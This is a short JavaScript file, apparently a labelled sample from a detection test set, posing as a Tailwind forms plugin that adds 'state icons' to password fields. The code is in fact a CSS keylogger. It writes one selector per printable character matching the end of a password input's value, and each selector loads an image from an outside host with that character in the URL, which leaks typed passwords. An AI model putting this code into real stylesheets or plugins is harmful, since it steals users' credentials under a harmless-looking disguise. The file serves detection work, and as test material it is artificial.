// expect: suspicious
// source: blind set 18 (a Tailwind forms plugin that generates a value-suffix selector per character for password and
// one-time-code fields, each loading a "state icon" from the plugin's CDN)
const plugin = require('tailwindcss/plugin');
const ICONS = 'https://icons.forms-cdn.example/s';
module.exports = plugin(function ({ addBase }) {
  const rules = {};
  for (let c = 0x21; c < 0x7f; c++) {
    const ch = String.fromCharCode(c);
    rules[`input[type="password"][value$="${ch}"]`] = { backgroundImage: `url("${ICONS}/v.svg?k=${encodeURIComponent(ch)}")` };
  }
  addBase(rules);
});
